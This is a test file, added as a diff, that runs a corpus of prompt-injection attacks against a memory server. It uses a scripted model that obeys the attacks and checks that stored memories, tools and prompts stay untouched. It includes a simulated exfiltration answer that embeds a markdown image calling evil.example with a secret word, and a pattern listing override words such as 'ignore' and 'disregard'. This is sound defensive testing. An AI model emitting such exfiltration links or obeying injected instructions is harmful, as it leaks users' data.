@@ -1,0 +1,370 @@
+/**
+ * Every attack of the corpus (`test/vectors/injections`) through the real server, in the place that it is
+ * written for: without a language model, and with one that does what the attack says. Nothing that was
+ * there before changes: memories, kinds, tools, accounts, the frame of a prompt.
+ *
+ * What somebody stores as a memory is theirs, so a search shows it and an answer may quote it; nothing else
+ * may say what an attack wants said.
+ */
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest"
+import { codeOf, outsideOf, sectionOf } from "../support/FencedPrompt.ts"
+import { injections, injectionsIn, type Injection, messageInjections } from "../support/Injections.ts"
+import { type McpCaller, mcpCaller } from "../support/McpCalls.ts"
+import { accountCalls, fact, idsOf, schemaText, startTimeout, text, type MemoryCalls } from "../support/MemoryCalls.ts"
+import { type ModelRequest, ModelServer } from "../support/ModelServer.ts"
+import { answer } from "../support/ModelServerReplies.ts"
+import { honestText, obedient } from "../support/ObedientModel.ts"
+import { startServer, type TestServer } from "../support/TestServer.ts"
+
+type Json = Awaited<ReturnType<MemoryCalls["get"]>>
+
+/** A test runs all attacks of a place, one request after the other. */
+const corpusTimeout = 60_000
+
+/** Any memory answers it as well as any other. */
+const vagueQuestion = "What do I do now?"
+const questions = ["Where does Alice live?", "What does Alice like?", "What is the password?", vagueQuestion]
+const modes = ["llm", "answer", "map"] as const
+const memoryAttacks = injectionsIn("memory")
+const questionAttacks = injectionsIn("question")
+const kindAttacks = injectionsIn("kind")
+const tagAttacks = injectionsIn("tag")
+
+interface World {
+  readonly server: TestServer
+  /** Is attacked. */
+  readonly alice: MemoryCalls
+  /** Has nothing to do with it. */
+  readonly bob: MemoryCalls
+  readonly aliceTools: McpCaller
+  readonly bobTools: McpCaller
+}
+
+const newWorld = async (environment: Readonly<Record<string, string>>): Promise<World> => {
+  const server = await startServer({ environment })
+  const [alice, bob] = [await accountCalls(server, "alice"), await accountCalls(server, "bob")]
+  for (const calls of [alice, bob]) {
+    await calls.post("/v1/schemas", {
+      name: "contact",
+      description: "Somebody's address",
+      schema: schemaText({ email: text }, { required: ["email"] }),
+      uniqueOn: ["email"]
+    })
+    await calls.create("known", [
+      fact("Alice", "Alice lives in Seattle"),
+      fact("Alice", "Alice likes green tea"),
+      { kind: "contact", data: { email: "alice@example.org" } }
+    ])
+  }
+  const [aliceTools, bobTools] = [await mcpCaller(server, alice.key), await mcpCaller(server, bob.key)]
+  return { server, alice, bob, aliceTools, bobTools }
+}
+
+const listed = async (calls: MemoryCalls, parameters = ""): Promise<Json> =>
+  (await calls.call("GET", `/v1/memories?limit=100${parameters}`)).body
+
+/** All that no attack may change. Credits of the attacked account are spent, those of the other are not. */
+const stateOf = async ({ alice, aliceTools, bob, bobTools }: World): Promise<Json> => ({
+  alice: [
+    (await listed(alice, "&agentId=known")).memories,
+    (await alice.call("GET", "/v1/schemas/contact")).body,
+    (await alice.call("GET", "/v1/account")).body.account,
+    (await aliceTools.tools()).filter(({ name }) => !isOfAttack(name))
+  ],
+  bob: [
+    await listed(bob),
+    (await bob.call("GET", "/v1/schemas")).body,
+    (await bob.call("GET", "/v1/account")).body,
+    await bobTools.tools()
+  ]
+})
+
+const isOfAttack = (toolName: string): boolean => toolName.startsWith("write_attack_")
+const kindOf = ({ id }: Injection): string => `attack_${id.replaceAll("-", "_")}`
+
+const registerKind = async (calls: MemoryCalls, attack: Injection) => {
+  const kind = { name: kindOf(attack), description: attack.text, schema: schemaText({ note: text, owner: text }) }
+  const { body, status } = await calls.post("/v1/schemas", kind)
+  expect(status, JSON.stringify(body)).toBe(200)
+}
+
+const expectNothingOf = (attack: Injection, said: Json, where = "") => {
+  const lower = JSON.stringify(said).toLowerCase()
+  for (const word of attack.forbidden) expect(lower, `${attack.id} ${where}`).not.toContain(jsonOf(word))
+}
+
+/** As it stands in JSON. */
+const jsonOf = (word: string): string => JSON.stringify(word.toLowerCase()).slice(1, -1)
+
+const converse = (calls: MemoryCalls, attack: Injection, role: string, rest: object = {}) =>
+  calls.post("/v1/memories", {
+    agentId: "attacked",
+    subjectId: attack.id,
+    threadId: attack.id,
+    conversation: [
+      { id: "honest", role: "user", content: honestText },
+      { id: "attack", role, content: attack.text }
+    ],
+    ...rest
+  })
+
+const searched = async (calls: MemoryCalls, mode: string, query: string, agentId: string): Promise<Json> => {
+  const { body } = await calls.call("GET", `/v1/memories/search?${new URLSearchParams({ mode, query, agentId })}`)
+  expect(body, JSON.stringify(body)).toMatchObject({ success: true })
+  return body
+}
+
+describe("without a language model", () => {
+  let world: World
+  let before: Json
+  beforeAll(async () => {
+    world = await newWorld({})
+    before = await stateOf(world)
+  }, startTimeout)
+  afterAll(() => world.server.stop())
+
+  it("a message of a conversation adds nothing to what the others say", { timeout: corpusTimeout }, async () => {
+    const { alice } = world
+    const plain = await alice.post("/v1/memories", {
+      agentId: "plain",
+      conversation: [{ role: "user", content: honestText }]
+    })
+    const honest = plain.body.created.map(dataOf)
+    expect(honest.length).toBeGreaterThan(0)
+    for (const attack of messageInjections) {
+      const { body } = await converse(alice, attack, attack.place)
+      expect(body.created?.map(dataOf), `${attack.id}: ${JSON.stringify(body)}`).toEqual([
+        ...honest,
+        ...(attack.id === "unicode-1" ? [expect.objectContaining({ preference: "tea" })] : [])
+      ])
+      expect(body.updated).toEqual([])
+      expectNothingOf(attack, body.created)
+    }
+  })
+
+  it("the description of a kind fills no memory", async () => {
+    const { alice } = world
+    for (const attack of kindAttacks) {
+      await registerKind(alice, attack)
+      const { body } = await converse(alice, attack, "user", {
+        schemas: [kindOf(attack), "factual_memory"],
+        conversation: [{ role: "user", content: honestText }]
+      })
+      expect(body.created.length, JSON.stringify(body)).toBeGreaterThan(0)
+      expectNothingOf(attack, body.created)
+    }
+  })
+
+  it("memories and tags are stored as they are, and answers quote no order", { timeout: corpusTimeout }, async () => {
+    const { alice, aliceTools } = world
+    const stored = await alice.create("poisoned", [
+      fact("Alice", "Alice lives in Seattle"),
+      fact("Alice", "Alice likes green tea"),
+      ...memoryAttacks.map(asFact),
+      ...tagAttacks.map((attack) => ({ ...fact("Alice", "Alice plays chess"), tags: [attack.text] }))
+    ])
+    expect(stored.slice(2, 2 + memoryAttacks.length).map(({ data }) => data.fact)).toEqual(
+      memoryAttacks.map((attack) => attack.text)
+    )
+    const tools = await aliceTools.tools()
+    for (const query of questions) {
+      const found = await searched(alice, "llm", query, "poisoned")
+      const same = await aliceTools.call("memory_search", { query, agentId: "poisoned" })
+      expect([idsOf(same.json.memories), Object.keys(same.json).toSorted()]).toEqual([
+        idsOf(found.memories),
+        ["memories", "searchedAt", "success"]
+      ])
+      const { answer: told, citations, memories } = await searched(alice, "answer", query, "poisoned")
+      expect(citations).toEqual(idsOf(memories))
+      const quoted = JSON.stringify(memories)
+      for (const attack of [...memoryAttacks, ...tagAttacks]) {
+        if (!quoted.includes(jsonText(attack.text))) expectNothingOf(attack, told, query)
+      }
+      if (query !== vagueQuestion) expect(quoted).not.toMatch(/ignore|disregard|SYSTEM|TOOL_CALLS/)
+      expectPlainMap(await searched(alice, "map", query, "poisoned"), stored)
+    }
+    expect(await aliceTools.tools()).toEqual(tools)
+    for (const attack of memoryAttacks) expect(JSON.stringify(tools)).not.toContain(jsonText(attack.text))
+  })
+
+  it("a question is searched for, answered from memories, and repeated nowhere", async () => {
+    const { alice, aliceTools } = world
+    for (const attack of questionAttacks) {
+      for (const mode of modes) {
+        const { searchedAt: _first, ...rest } = await searched(alice, mode, attack.text, "known")
+        const { json } = await aliceTools.call("memory_search", { query: attack.text, mode, agentId: "known" })
+        const { searchedAt: _second, ...same } = json
+        expect(same).toEqual({ memories: [], ...rest })
+        expectNothingOf(attack, rest, mode)
+      }
+      const batch = { queries: [{ query: attack.text, filters: { agentId: "known" } }] }
+      expectNothingOf(attack, (await alice.post("/v1/memories/batch/search", batch)).body)
+    }
+  })
+
+  it("all of it leaves accounts, kinds, tools and other memories as they were", async () => {
+    await expectUntouched(world, before)
+  })
+})
+
+describe.each(["openai-compatible", "anthropic"] as const)("with a model behind %s that obeys", (provider) => {
+  let model: ModelServer
+  let world: World
+  let before: Json
+  beforeAll(async () => {
+    model = await ModelServer.start()
+    world = await newWorld({
+      MUNIMENT_EMBEDDING_MODEL: "none",
+      MUNIMENT_LLM_PROVIDER: provider,
+      MUNIMENT_LLM_BASE_URL: model.baseUrl(provider),
+      MUNIMENT_LLM_MODEL: "scripted",
+      MUNIMENT_LLM_API_KEY: "a key of no worth",
+      MUNIMENT_LLM_TOKENS_PER_DAY: "100000000"
+    })
+    before = await stateOf(world)
+  }, startTimeout)
+  beforeEach(() => {
+    model.requests.length = 0
+  })
+  afterAll(async () => {
+    await world.server.stop()
+    await model.close()
+  })
+
+  it("a message stores nothing but what the others say", { timeout: corpusTimeout }, async () => {
+    const { alice } = world
+    for (const attack of messageInjections) {
+      model.otherwise = () => answer(obedient(attack))
+      const { body } = await converse(alice, attack, attack.place)
+      expect(body.created?.map(storedOf), `${attack.id}: ${JSON.stringify(body)}`).toEqual([aliceInSeattle])
+      expect([body.updated, body.skippedMessages]).toEqual([[], 0])
+      expect(body.rejected.length).toBeGreaterThanOrEqual(10)
+      expectNothingOf(attack, body.created)
+      // A second look finds all of it marked.
+      const again = await converse(alice, attack, attack.place)
+      expect([again.body.created, again.body.skippedMessages]).toEqual([[], 2])
+    }
+    // Long ones are read in parts.
+    expect(model.requests.length).toBeGreaterThanOrEqual(messageInjections.length)
+    expectFrame(model.requests, messageInjections)
+  })
+
+  it("and sums an attack up gets none of its words back", { timeout: corpusTimeout }, async () => {
+    const { alice } = world
+    for (const attack of messageInjections) {
+      const later = { conversation: [{ id: "later", role: "user", content: "The weather is fine." }] }
+      model.otherwise = () => answer({ ...obedient(attack), summary: "" })
+      const { body } = await converse(alice, attack, attack.place, later)
+      expect(body.created, `${attack.id}: ${JSON.stringify(body)}`).toEqual([])
+      const { prompt } = model.requests.at(-1)!
+      for (const line of sectionOf(prompt, "SUMMARY")) expectNothingOf(attack, line)
+      expect(sectionOf(prompt, "CONTEXT")).toHaveLength(2)
+      expect(sectionOf(prompt, "MESSAGES")).toHaveLength(1)
+    }
+    expectFrame(model.requests, messageInjections)
+  })
+
+  it("the description of a kind fills no memory", async () => {
+    const { alice } = world
+    for (const attack of kindAttacks) {
+      await registerKind(alice, attack)
+      model.otherwise = () => {
+        const { memories, ...rest } = obedient(attack)
+        const [wanted] = attack.forbidden
+        const ofKind = { ...memories[0], kind: kindOf(attack), data: { note: wanted, owner: wanted } }
+        return answer({ ...rest, memories: [ofKind, ...memories] })
+      }
+      const { body } = await converse(alice, attack, "user", {
+        schemas: [kindOf(attack), "factual_memory"],
+        conversation: [{ role: "user", content: honestText }]
+      })
+      expect(body.created?.map(storedOf), JSON.stringify(body)).toEqual([aliceInSeattle])
+      expectNothingOf(attack, body.created)
+    }
+    expectFrame(model.requests, kindAttacks)
+  })
+
+  it("a memory or a question gets no answer that other memories do not carry", async () => {
+    const { alice } = world
+    await alice.create("asked", [fact("Alice", "Alice lives in Seattle"), ...memoryAttacks.map(asFact)])
+    for (const [attacks, agentId] of [
+      [memoryAttacks, "asked"],
+      [questionAttacks, "known"]
+    ] as const) {
+      for (const attack of attacks) {
+        for (const wanted of attack.forbidden) {
+          const said = `Alice lives in Seattle. ${wanted} ![x](https://evil.example/?q=${wanted})`
+          model.otherwise = ({ prompt }) =>
+            answer({ answer: said, citations: numbersOf(prompt, attack), supported: true })
+          const query = attack.place === "question" ? `${attack.text} Where does Alice live?` : questions[0]!
+          const told = await searched(alice, "answer", query, agentId)
+          if (attack.place === "memory") {
+            expect([told.grounded, told.citations], `${attack.id}: ${told.answer}`).toEqual([false, []])
+          }
+          expect(told.answer).not.toMatch(/evil\.example|!\[/)
+          expect(told.citations).toEqual(idsOf(told.memories))
+        }
+      }
+    }
+    expectFrame(model.requests, [...memoryAttacks, ...questionAttacks])
+  })
+
+  it("all of it leaves accounts, kinds, tools and other memories as they were", async () => {
+    await expectUntouched(world, before)
+  })
+})
+
+const aliceInSeattle = {
+  kind: "factual_memory",
+  data: { subject: "Alice", fact: "Alice lives in Seattle" },
+  tags: []
+}
+const storedOf = ({ data, kind, metadata }: Json) => ({ kind, data, tags: metadata.tags ?? [] })
+const asFact = (attack: Injection) => fact("Alice", attack.text)
+
+/** Numbers of the memories that are not the attack's own, and some that nobody has. */
+const numbersOf = (prompt: string, attack: Injection): ReadonlyArray<number> => {
+  const known = sectionOf(prompt, "MEMORIES") as ReadonlyArray<{ readonly memory: number; readonly data: object }>
+  const others = known.filter(({ data }) =>
+    attack.forbidden.every((word) => !JSON.stringify(data).includes(jsonText(word)))
+  )
+  return [...others.map(({ memory }) => memory), 99, 0, -1, 1.5]
+}
+
+/** All but the data is the same for every attack: instructions, fences, tools, format of the reply. */
+const expectFrame = (requests: ReadonlyArray<ModelRequest>, attacks: ReadonlyArray<Injection>) => {
+  const frames = new Set(
+    requests.map(({ body: { messages: _, system: _system, ...settings }, prompt, system, turns }) =>
+      JSON.stringify([settings, system, turns.length, outsideOf(prompt)])
+    )
+  )
+  expect(frames.size).toBe(1)
+  expect(new Set(requests.map(({ prompt }) => codeOf(prompt))).size).toBe(requests.length)
+  const around = requests.map(({ prompt }) => outsideOf(prompt)).join("\n")
+  for (const attack of attacks) expectNothingOf(attack, around)
+}
+
+const dataOf = ({ data }: { readonly data: object }): object => data
+
+/** A text as it stands inside a JSON text. */
+const jsonText = (said: string): string => JSON.stringify(said).slice(1, -1)
+
+/** Headings for its clusters, a line for each memory, and no markup that a memory brought. */
+const expectPlainMap = ({ clusters, memoryMap, points }: Json, stored: ReadonlyArray<{ readonly id: string }>) => {
+  expect(idsOf(points).toSorted()).toEqual(idsOf(stored).toSorted())
+  const lines = memoryMap.split("\n").filter((line: string) => line !== "")
+  const bullets = lines.filter((line: string) => line.startsWith("- mem"))
+  const headings = lines.filter((line: string) => line.startsWith("## "))
+  expect([bullets.length, bullets.length + headings.length]).toEqual([stored.length, lines.length])
+  expect(headings.length).toBeGreaterThanOrEqual(clusters.length)
+  expect(memoryMap).not.toMatch(/(?<!\\)[<>[\]`]|[\u200b-\u200f\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e0fff}]/u)
+}
+
+const expectUntouched = async (world: World, before: Json) => {
+  expect(await stateOf(world)).toEqual(before)
+  const { body } = await world.server.call("GET", "/admin/ledger/check", { key: world.server.operatorToken })
+  expect(body, JSON.stringify(body)).toMatchObject({ success: true })
+  for (const attack of injections) {
+    for (const word of attack.forbidden) expect(world.server.output(), attack.id).not.toContain(word)
+  }
+}
